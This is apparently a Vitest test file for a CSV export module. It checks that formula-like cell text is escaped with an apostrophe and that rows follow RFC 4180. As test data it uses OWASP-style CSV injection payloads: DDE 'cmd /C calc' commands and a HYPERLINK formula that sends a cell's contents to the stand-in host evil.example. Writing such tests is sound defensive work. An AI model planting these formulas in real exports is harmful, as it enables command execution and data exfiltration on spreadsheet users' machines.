import { describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv } from './csv.ts';

describe('neutraliseFormula', () => {
  // Payloads from OWASP's "CSV Injection" page and the classic DDE examples.
  it.each([
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    ],
    ["@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['=1+1', "'=1+1"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-', "'-"],
    ['- felt better after a walk', "'- felt better after a walk"],
    ['-2e3x', "'-2e3x"],
  ])('neutralises %j', (input, expected) => {
    expect(neutraliseFormula(input)).toBe(expected);
  });

  it.each(['-2', '+3.5', '-0.25', '1e-3', '-1.5E+2', '.5', '12', 'plain words', '2026-01-05', 'a=b'])(
    'leaves %j as written (a whole number, or text that does not start a formula)',
    (input) => {
      expect(neutraliseFormula(input)).toBe(input);
    },
  );
});

describe('toCsv', () => {
  it('writes RFC 4180 rows: CRLF, quotes doubled, fields with commas or line breaks quoted', () => {
    expect(
      toCsv(
        ['date', 'value', 'note'],
        [
          { date: '2026-01-01', value: 7, note: 'said "hi", then left' },
          { date: '2026-01-02', value: null, note: 'two\nlines' },
        ],
      ),
    ).toBe('date,value,note\r\n2026-01-01,7,"said ""hi"", then left"\r\n2026-01-02,,"two\nlines"\r\n');
  });

  it('keeps numbers as numbers, negative ones too, and neutralises formula text', () => {
    expect(toCsv(['v', 'n'], [{ v: -2, n: "-2+3+cmd|' /C calc'!A0" }])).toBe(
      "v,n\r\n-2,'-2+3+cmd|' /C calc'!A0\r\n",
    );
    // The apostrophe goes inside the quotes, so the spreadsheet sees it first.
    expect(toCsv(['n'], [{ n: '=HYPERLINK("x","y")' }])).toBe('n\r\n"\'=HYPERLINK(""x"",""y"")"\r\n');
  });

  it('writes a missing column as an empty field', () => {
    expect(toCsv(['a', 'b'], [{ a: 'x' }])).toBe('a,b\r\nx,\r\n');
  });
});
